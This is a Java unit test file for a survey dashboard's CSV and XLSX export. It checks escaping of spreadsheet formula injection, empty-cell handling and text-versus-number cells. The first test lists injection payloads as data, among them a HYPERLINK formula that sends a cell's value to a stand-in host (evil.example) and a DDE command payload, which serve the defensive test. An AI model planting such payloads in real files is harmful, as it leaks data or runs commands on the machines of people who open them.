package nl.samenspraak.dashboard;

import nl.samenspraak.support.ExcelCsv;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

/** Every CSV cell that a spreadsheet would run as a formula is written as text, whatever column it is in. */
class ExportFilesTest {

    @Test
    void cellsThatStartAFormulaGetAnApostropheAndReadBackAsText() {
        List<String> dangerous = List.of("=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=cmd|' /C calc'!A0");
        List<String> harmless = List.of("Tolk", "1+1", "a=b", "", "Çok teşekkürler; \"lütfen\"", "شكرا");
        List<String> row = new java.util.ArrayList<>(dangerous);
        row.addAll(harmless);
        ExportTable table = new ExportTable(List.of("h" + row.size()), List.of(row));
        List<List<String>> read = ExcelCsv.read(ExportFiles.csv(table));
        assertEquals(2, read.size());
        List<String> cells = read.get(1);
        for (int i = 0; i < dangerous.size(); i++) {
            assertEquals("'" + dangerous.get(i), cells.get(i));
            assertFalse(ExcelCsv.runsAsFormula(cells.get(i)), cells.get(i));
        }
        assertEquals(harmless, cells.subList(dangerous.size(), cells.size()), "other cells as they were");
    }

    /**
     * The texts' sheet is blank below a column's last text: no cell there, not an empty text (COUNTA counted those,
     * so "how many wrote" read as the longest column's count). The same for a skipped answer in the rows.
     */
    @Test
    void anEmptyValueIsNoCellInTheXlsx() throws java.io.IOException {
        ExportTable texts = new ExportTable(List.of("goed_in_wijk", "beter_in_wijk"),
                List.of(List.of("Het park", "Meer bankjes"), List.of("De markt", "")));
        byte[] xlsx = ExportFiles.xlsx(List.of(new ExportFiles.Sheet("Antwoorden", new ExportTable(List.of("Rij"), List.of())),
                new ExportFiles.Sheet("Eigen woorden", texts, true)));
        try (var workbook = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            assertEquals(List.of("Antwoorden", "Eigen woorden"), workbook.getSheets().map(org.dhatim.fastexcel.reader.Sheet::getName).toList());
            try (var rows = workbook.getSheet(1).orElseThrow().openStream()) {
                List<org.dhatim.fastexcel.reader.Row> all = rows.toList();
                assertEquals("De markt", all.get(2).getCellText(0));
                assertEquals(org.dhatim.fastexcel.reader.CellType.EMPTY, all.get(2).getOptionalCell(1)
                        .map(org.dhatim.fastexcel.reader.Cell::getType).orElse(org.dhatim.fastexcel.reader.CellType.EMPTY),
                        "no cell below the column's last text");
            }
        }
    }

    /**
     * A text that is only digits ("12", for how many years someone has lived here) stays the text typed in the texts'
     * sheet: as a number cell it stood right-aligned among the words, sorted apart from them, and a text filter
     * missed it. The answers' sheet keeps whole numbers as numbers (AVERAGE over a scale).
     */
    @Test
    void aTypedNumberStaysTextInTheTextsSheetAndANumberInTheAnswers() throws java.io.IOException {
        ExportTable answers = new ExportTable(List.of("Rij", "schaal"), List.of(List.of("1", "4")));
        ExportTable texts = new ExportTable(List.of("goed_in_wijk"), List.of(List.of("0612"), List.of("12")));
        byte[] xlsx = ExportFiles.xlsx(List.of(new ExportFiles.Sheet("Antwoorden", answers),
                new ExportFiles.Sheet("Eigen woorden", texts, true)));
        try (var workbook = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            try (var rows = workbook.getSheet(0).orElseThrow().openStream()) {
                var row = rows.toList().get(1);
                assertEquals(org.dhatim.fastexcel.reader.CellType.NUMBER, row.getCell(1).getType(), "a scale's point counts");
            }
            try (var rows = workbook.getSheet(1).orElseThrow().openStream()) {
                List<org.dhatim.fastexcel.reader.Row> all = rows.toList();
                assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, all.get(1).getCell(0).getType());
                assertEquals("0612", all.get(1).getCellText(0));
                assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, all.get(2).getCell(0).getType(), "12 as typed");
                assertEquals("12", all.get(2).getCellText(0));
            }
        }
    }
}
